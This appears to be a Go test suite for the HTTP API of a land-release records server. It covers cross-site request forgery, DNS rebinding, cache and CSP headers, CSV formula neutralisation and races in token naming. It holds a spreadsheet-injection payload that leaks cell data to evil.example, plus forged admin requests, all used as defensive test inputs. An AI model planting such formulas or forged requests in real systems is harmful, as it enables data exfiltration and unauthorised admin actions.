package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/uuid"

	lrjs "github.com/landrelease/landrelease/adapters/jetstream"
)

// rawRequest sends exactly what a browser page or an attacker could: the
// given Host, headers and body, nothing added.
func rawRequest(t *testing.T, method, base, path, host string, header map[string]string, body string) (int, []byte, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, base+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if host != "" {
		req.Host = host
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	out, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, out, resp.Header
}

// httpSnapshot is the last sequence of the history and what the read model
// and the token registry answer once the projections have applied it.
func httpSnapshot(t *testing.T, c *client) (uint64, string) {
	t.Helper()
	var h struct {
		Sequence uint64 `json:"sequence"`
	}
	c.getJSON("/api/v1/health", &h)
	var b strings.Builder
	for _, path := range []string{"/api/v1/areas?limit=10000&min_sequence=" + itoa(h.Sequence), "/api/v1/state", "/api/v1/tokens"} {
		code, body := c.do("GET", path, nil)
		mustStatus(t, "GET "+path, code, body, http.StatusOK)
		b.Write(body)
	}
	return h.Sequence, b.String()
}

// TestSecurityHTTPForgedRequests: under --insecure-local every request is
// the admin, so a web page of another site that makes the browser send a
// request would be the admin too. A text/plain or form body (which a page
// sends without asking the server), a foreign Origin, a Host that is not a
// loopback name (DNS rebinding) and a repeated parameter are refused with
// their status and kind, and leave the history, the read model and the
// tokens as they were; a script and the dashboard's own requests work.
func TestSecurityHTTPForgedRequests(t *testing.T) {
	dir := t.TempDir()
	base := startServe(t, dir, "--insecure-local")
	port := base[strings.LastIndex(base, ":")+1:]
	local := newClient(t, base, "")
	register := func(village string) string {
		b, _ := json.Marshal(cmdJSON("RegisterSuspectedArea", map[string]any{"area_id": uuid.New(), "province": "Battambang",
			"village": village, "hazard": "AP", "size_m2": 20_000, "registered_on": "2024-01-10", "source": "BLS", "classification": "CHA"}))
		return string(b)
	}
	// A script (no Origin) works.
	code, body := local.do("POST", "/api/v1/commands", []byte(register("Kantuot")))
	mustStatus(t, "a script's command", code, body, http.StatusOK)

	seq, before := httpSnapshot(t, local)
	jsonType := map[string]string{"Content-Type": "application/json"}
	for _, c := range []struct {
		what         string
		method, path string
		host         string
		header       map[string]string
		body         string
		status       int
		kind, field  string
	}{
		{"text/plain command (a page's no-preflight POST)", "POST", "/api/v1/commands", "", map[string]string{"Content-Type": "text/plain"}, register("Forged"), 415, "unsupported_media_type", "Content-Type"},
		{"form-encoded command", "POST", "/api/v1/commands", "", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, register("Forged"), 415, "unsupported_media_type", "Content-Type"},
		{"command without Content-Type", "POST", "/api/v1/commands", "", nil, register("Forged"), 415, "unsupported_media_type", "Content-Type"},
		{"text/plain token", "POST", "/api/v1/tokens", "", map[string]string{"Content-Type": "text/plain"}, `{"name":"evil","role":"admin"}`, 415, "unsupported_media_type", "Content-Type"},
		{"command from another site", "POST", "/api/v1/commands", "", map[string]string{"Content-Type": "application/json", "Origin": "https://evil.example"}, register("Forged"), 403, "forbidden", "Origin"},
		{"token from another site", "POST", "/api/v1/tokens", "", map[string]string{"Content-Type": "application/json", "Origin": "http://localhost:1"}, `{"name":"evil","role":"admin"}`, 403, "forbidden", "Origin"},
		{"command through DNS rebinding", "POST", "/api/v1/commands", "evil.example:" + port, map[string]string{"Content-Type": "application/json", "Origin": "http://evil.example:" + port}, register("Forged"), 403, "forbidden", "Host"},
		{"reading through DNS rebinding", "GET", "/api/v1/areas", "evil.example:" + port, nil, "", 403, "forbidden", "Host"},
		{"repeated parameter", "GET", "/api/v1/areas?status=CHA&status=SHA", "", nil, "", 400, "bad_request", "status"},
		{"repeated parameter on a command", "POST", "/api/v1/commands?min_sequence=1&min_sequence=2", "", jsonType, register("Forged"), 400, "bad_request", "min_sequence"},
	} {
		code, body, h := rawRequest(t, c.method, base, c.path, c.host, c.header, c.body)
		e := decodeAPIError(t, body)
		if code != c.status || e.Error.Kind != c.kind || e.Error.Field != c.field {
			t.Errorf("%s: %d %s; want %d %s naming %s", c.what, code, body, c.status, c.kind, c.field)
		}
		if h.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: Cache-Control %q", c.what, h.Get("Cache-Control"))
		}
	}
	if s, after := httpSnapshot(t, local); s != seq || after != before {
		t.Fatalf("a refused request changed something: sequence %d → %d\nbefore %s\nafter %s", seq, s, before, after)
	}

	// The dashboard's own request (its Origin, JSON, as app.js sends it)
	// works, by any loopback name.
	for _, host := range []string{"", "localhost:" + port} {
		origin := base
		if host != "" {
			origin = "http://" + host
		}
		code, body, _ = rawRequest(t, "POST", base, "/api/v1/commands", host,
			map[string]string{"Content-Type": "application/json", "Origin": origin}, register("Dashboard"))
		mustStatus(t, "the dashboard's command via "+origin, code, body, http.StatusOK)
	}
	if s, _ := httpSnapshot(t, local); s <= seq {
		t.Fatalf("the dashboard's commands stored nothing: sequence %d", s)
	}
}

// TestSecurityHTTPHeaders: no API answer may be cached (the one with a new
// token above all); every HTML answer has a CSP; 'bearer' works in any
// case; the work plan's CSV holds no live formula.
func TestSecurityHTTPHeaders(t *testing.T) {
	dir := t.TempDir()
	base := startServe(t, dir, "--insecure-local")
	local := newClient(t, base, "")
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	code, body := local.do("POST", "/api/v1/commands", cmdJSON("RegisterSuspectedArea", map[string]any{"area_id": uuid.New(),
		"province": "Battambang", "village": formula, "district": "-1+1", "hazard": "AP", "size_m2": 20_000,
		"registered_on": "2024-01-10", "source": "BLS", "classification": "CHA"}))
	mustStatus(t, "register", code, body, http.StatusOK)
	var ans commandAnswer
	if err := json.Unmarshal(body, &ans); err != nil {
		t.Fatal(err)
	}

	code, body, h := rawRequest(t, "POST", base, "/api/v1/tokens", "", map[string]string{"Content-Type": "application/json"}, `{"name":"dara","role":"analyst"}`)
	mustStatus(t, "create a token", code, body, http.StatusCreated)
	if h.Get("Cache-Control") != "no-store" {
		t.Errorf("the answer with a new token has Cache-Control %q, want no-store", h.Get("Cache-Control"))
	}
	var tok struct{ Token string }
	if err := json.Unmarshal(body, &tok); err != nil || tok.Token == "" {
		t.Fatalf("token answer %s", body)
	}
	for _, auth := range []string{"bearer " + tok.Token, "BEARER " + tok.Token} {
		code, body, _ := rawRequest(t, "GET", base, "/api/v1/whoami", "", map[string]string{"Authorization": auth}, "")
		if code != http.StatusOK || !strings.Contains(string(body), `"dara"`) {
			t.Errorf("Authorization %q: %d %s", auth[:6]+"…", code, body)
		}
	}
	for _, auth := range []string{"Bearer", "Basic " + tok.Token, "Bearer" + tok.Token} {
		code, body, _ := rawRequest(t, "GET", base, "/api/v1/whoami", "", map[string]string{"Authorization": auth}, "")
		if code != http.StatusUnauthorized || decodeAPIError(t, body).Error.Kind != "unauthorized" {
			t.Errorf("malformed Authorization %q: %d %s, want 401", auth, code, body)
		}
	}

	plan := "/api/v1/workplans/Battambang/2024"
	minSeq := "&min_sequence=" + itoa(ans.Sequence)
	for _, path := range []string{"/api/v1/health", "/api/v1/areas", "/api/v1/tokens", "/api/v1/openapi.json", plan + "?format=json" + minSeq,
		plan + "?format=csv" + minSeq, plan + "?format=html" + minSeq, "/api/v1/nowhere"} {
		_, _, h := rawRequest(t, "GET", base, path, "", nil, "")
		if h.Get("Cache-Control") != "no-store" {
			t.Errorf("GET %s: Cache-Control %q, want no-store", path, h.Get("Cache-Control"))
		}
		if h.Get("Content-Security-Policy") == "" {
			t.Errorf("GET %s: no Content-Security-Policy", path)
		}
	}
	code, html, h := rawRequest(t, "GET", base, plan+"?format=html"+minSeq, "", nil, "")
	mustStatus(t, "printable work plan", code, html, http.StatusOK)
	if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") ||
		!strings.HasPrefix(h.Get("Content-Type"), "text/html") {
		t.Errorf("printable work plan: Content-Type %q, CSP %q; want HTML that may run nothing", h.Get("Content-Type"), csp)
	}
	for _, page := range []string{"/", "/area.html", "/login.html"} {
		code, body, h := rawRequest(t, "GET", base, page, "", nil, "")
		if code != http.StatusOK || !strings.Contains(h.Get("Content-Security-Policy"), "default-src 'self'") {
			t.Errorf("dashboard page %s: %d, CSP %q (%d bytes)", page, code, h.Get("Content-Security-Policy"), len(body))
		}
	}

	code, csv, _ := rawRequest(t, "GET", base, plan+"?format=csv"+minSeq, "", nil, "")
	mustStatus(t, "work plan CSV", code, csv, http.StatusOK)
	if !strings.Contains(string(csv), `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`) || !strings.Contains(string(csv), ",'-1+1,") {
		t.Errorf("the work plan CSV does not neutralise the formulas:\n%s", csv)
	}
	if strings.Contains(string(csv), `,"=HYPERLINK`) || strings.Contains(string(csv), ",-1+1,") {
		t.Errorf("a formula is live in the work plan CSV:\n%s", csv)
	}
	if !strings.Contains(string(csv), ",20000,") {
		t.Errorf("the sizes are no longer plain numbers:\n%s", csv)
	}
}

// TestSecurityHTTPTokenNamesUnique: one name created at once through the
// API and the CLI on the same NATS server: exactly one token comes out, the
// others are a conflict naming the token that holds the name; revoking the
// name revokes that token and no other.
func TestSecurityHTTPTokenNamesUnique(t *testing.T) {
	cfg := lrjs.DefaultEmbeddedConfig(t.TempDir())
	cfg.Listen = "127.0.0.1:0"
	srv, err := lrjs.StartEmbedded(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Close)
	natsURL := srv.ClientURL()
	asEngine := []string{"--nats-url", natsURL, "--nats-user", lrjs.EngineUser, "--nats-password-file", lrjs.PasswordFile(cfg.DataDir, lrjs.EngineUser)}
	cli := func(args ...string) (int, string, string) {
		return run(t, "", append(append(slices.Clone(asEngine), "token"), args...)...)
	}
	code, rootToken, errOut := cli("create", "--role", "admin", "--name", "root")
	if code != exitOK {
		t.Fatalf("token create root: %d %s", code, errOut)
	}
	dir := t.TempDir()
	base := startServe(t, dir, append(slices.Clone(asEngine), "--db", dir+"/readmodel.sqlite")...)
	admin := newClient(t, base, strings.TrimSpace(rootToken))
	code, body := admin.do("POST", "/api/v1/tokens", map[string]string{"name": "dara", "role": "analyst"})
	mustStatus(t, "create dara", code, body, http.StatusCreated)
	var dara struct{ Token string }
	if err := json.Unmarshal(body, &dara); err != nil {
		t.Fatal(err)
	}
	seq, _ := httpSnapshot(t, admin)

	const api, clis = 4, 3
	type outcome struct {
		via, out string
		created  bool
	}
	outcomes := make(chan outcome, api+clis)
	var wg sync.WaitGroup
	for i := range api {
		wg.Add(1)
		go func() {
			defer wg.Done()
			code, body := newClient(t, base, admin.token).do("POST", "/api/v1/tokens", map[string]string{"name": "sokha", "role": fmt.Sprintf("mapu:%s", []string{"Pailin", "Battambang", "Kampot", "Kep"}[i])})
			if code != http.StatusCreated {
				e := decodeAPIError(t, body)
				if code != http.StatusConflict || e.Error.Kind != "conflict" || e.Error.Field != "name" {
					t.Errorf("API creation: %d %s; want 201 or 409 conflict on name", code, body)
				}
			}
			outcomes <- outcome{"api", string(body), code == http.StatusCreated}
		}()
	}
	for range clis {
		wg.Add(1)
		go func() {
			defer wg.Done()
			code, out, errOut := cli("create", "--role", "planner", "--name", "sokha")
			if code != exitOK && !strings.Contains(errOut, "exists already") {
				t.Errorf("CLI creation: exit %d %s", code, errOut)
			}
			outcomes <- outcome{"cli", out + errOut, code == exitOK}
		}()
	}
	wg.Wait()
	close(outcomes)
	created := 0
	for o := range outcomes {
		if o.created {
			created++
			continue
		}
		if !strings.Contains(o.out, `token named \"sokha\" exists already`) && !strings.Contains(o.out, `token named "sokha" exists already`) {
			t.Errorf("%s refusal does not name the existing token: %s", o.via, o.out)
		}
	}
	if created != 1 {
		t.Fatalf("%d tokens named sokha were created at once, want exactly 1", created)
	}
	var list struct {
		Tokens []struct {
			Name      string  `json:"name"`
			RevokedAt *string `json:"revoked_at"`
		} `json:"tokens"`
	}
	admin.getJSON("/api/v1/tokens", &list)
	if len(list.Tokens) != 3 {
		t.Fatalf("tokens after the race: %+v; want root, dara and one sokha", list.Tokens)
	}

	// The same name in another case is the same name; nothing is stored.
	_, before := httpSnapshot(t, admin)
	code, body = admin.do("POST", "/api/v1/tokens", map[string]string{"name": "DARA", "role": "admin"})
	if mustStatus(t, "create DARA", code, body, http.StatusConflict); !strings.Contains(decodeAPIError(t, body).Error.Message, "role analyst") {
		t.Errorf("the conflict does not name the existing token: %s", body)
	}
	if s, after := httpSnapshot(t, admin); s != seq || after != before {
		t.Fatalf("token work changed the history (sequence %d → %d) or a refusal changed the registry:\nbefore %s\nafter %s", seq, s, before, after)
	}

	// Revoking sokha revokes sokha only.
	code, body = admin.do("DELETE", "/api/v1/tokens/sokha", nil)
	mustStatus(t, "revoke sokha", code, body, http.StatusOK)
	code, body = newClient(t, base, dara.Token).do("GET", "/api/v1/whoami", nil)
	mustStatus(t, "dara after revoking sokha", code, body, http.StatusOK)
	code, body = admin.do("DELETE", "/api/v1/tokens/"+url.PathEscape("nobody"), nil)
	mustStatus(t, "revoke nobody", code, body, http.StatusNotFound)
	admin.getJSON("/api/v1/tokens", &list)
	for _, tk := range list.Tokens {
		if (tk.RevokedAt != nil) != (tk.Name == "sokha") {
			t.Errorf("after revoking sokha: %s revoked=%v", tk.Name, tk.RevokedAt != nil)
		}
	}
}
